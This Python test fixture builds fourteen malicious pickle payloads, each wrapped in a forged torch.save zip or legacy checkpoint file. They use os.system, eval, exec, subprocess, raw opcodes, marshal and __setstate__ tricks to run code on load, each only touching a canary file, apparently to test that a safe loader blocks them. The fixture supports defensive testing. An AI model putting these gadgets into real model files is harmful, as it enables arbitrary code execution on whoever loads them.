"""Pickles that run a program when they are loaded, in torch.save's zip or its older format.

Each creates one file, the canary. A test shows that each does so when nothing stops it.
"""

import importlib
import io
import marshal
import operator
import pickle
import runpy
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Calls:
    """An object whose pickle makes a call when it is loaded."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


class Applies(Calls):
    """A call whose function is itself the result of a call."""

    def __init__(self, function: Calls, *arguments: Any) -> None:
        super().__init__(_apply, function, *arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        # list(map(f, [x])) calls f(x): both are built in, so the reader need not have _apply.
        function, argument = self.call[1]
        return list, (Calls(map, function, [argument]),)


def _apply(function: Callable[..., Any], *arguments: Any) -> Any:
    return function(*arguments)


def _pickled(value: object, protocol: int = 2) -> bytes:
    return pickle.dumps({"weight": value}, protocol=protocol)


def _command(canary: Path) -> str:
    return f"touch {canary}"


def _code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _os_system(canary: Path) -> bytes:
    import os

    return _pickled(Calls(os.system, _command(canary)))


def _global_opcode(canary: Path) -> bytes:
    return b"cposix\nsystem\n(S'" + _command(canary).encode() + b"'\ntR."


def _inst_opcode(canary: Path) -> bytes:
    return b"(S'" + _command(canary).encode() + b"'\nios\nsystem\n."


def _obj_opcode(canary: Path) -> bytes:
    command = _command(canary).encode()
    return b"(cos\nsystem\nX" + len(command).to_bytes(4, "little") + command + b"o."


def _stack_global(canary: Path) -> bytes:
    import os

    return _pickled(Calls(os.system, _command(canary)), protocol=4)


def _eval(canary: Path) -> bytes:
    return _pickled(Calls(eval, _code(canary)))


def _exec(canary: Path) -> bytes:
    return _pickled(Calls(exec, _code(canary)))


def _popen(canary: Path) -> bytes:
    import subprocess

    return _pickled(Calls(subprocess.check_output, ["touch", str(canary)]))


def _runpy(canary: Path) -> bytes:
    return _pickled(Calls(runpy._run_code, compile_lazily(_code(canary)), {}))  # type: ignore[attr-defined]


def compile_lazily(code: str) -> Calls:
    return Calls(compile, code, "x", "exec")


def _methodcaller(canary: Path) -> bytes:
    system = Calls(operator.methodcaller, "system", _command(canary))
    return _pickled(Applies(system, Calls(importlib.import_module, "os")))


def _timeit(canary: Path) -> bytes:
    import timeit

    return _pickled(Calls(timeit.timeit, _code(canary), "pass", timeit.default_timer, 1))


def _inside_torch(canary: Path) -> bytes:
    from torch.utils import collect_env

    return _pickled(Calls(collect_env.run, _command(canary)))


def _function(canary: Path) -> bytes:
    body = marshal.dumps(compile(_code(canary), "x", "exec"))
    # Pickle has no name for the type of functions, so it is looked up in its module on loading.
    kind = Calls(getattr, Calls(importlib.import_module, "types"), "FunctionType")
    made = Calls(map, kind, [Calls(marshal.loads, body)], [Calls(dict)])
    # list(iter(function, None)) calls a function without arguments.
    function = Calls(next, made)
    return _pickled(Calls(list, Calls(iter, function, None)))


def _setstate(canary: Path) -> bytes:
    """BUILD on an object that has been given os.system as its __setstate__."""
    command = _command(canary).encode()
    return (
        b"\x80\x02cargparse\nNamespace\n)R}(X\x0c\x00\x00\x00__setstate__cos\nsystem\nubX"
        + len(command).to_bytes(4, "little")
        + command
        + b"b."
    )


GADGETS: dict[str, Callable[[Path], bytes]] = {
    "os.system": _os_system,
    "an opcode that names posix.system": _global_opcode,
    "the opcode INST": _inst_opcode,
    "the opcode OBJ": _obj_opcode,
    "protocol 4": _stack_global,
    "eval": _eval,
    "exec": _exec,
    "subprocess": _popen,
    "runpy": _runpy,
    "a method of a module": _methodcaller,
    "timeit": _timeit,
    "a function inside torch": _inside_torch,
    "a function from its code": _function,
    "a state that is a call": _setstate,
}


def as_zip(payload: bytes) -> bytes:
    """A zip as torch.save writes it, with the payload in place of data.pkl."""
    buffer, changed = io.BytesIO(), io.BytesIO()
    torch.save({"weight": torch.zeros(4)}, buffer)
    with zipfile.ZipFile(buffer) as sound, zipfile.ZipFile(changed, "w") as forged:
        for name in sound.namelist():
            content = payload if name.endswith("/data.pkl") else sound.read(name)
            forged.writestr(name, content)
    return changed.getvalue()


def as_legacy(payload: bytes, storages: bytes = b"") -> bytes:
    """The payload in the format that torch.save wrote before zip archives."""
    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    before = (0x1950A86A20F9469CFC6C, 1001, machine)
    start = b"".join(pickle.dumps(value, protocol=2) for value in before)
    return start + payload + pickle.dumps([], protocol=2) + storages


FORMS: dict[str, Callable[[bytes], bytes]] = {"zip": as_zip, "legacy": as_legacy}
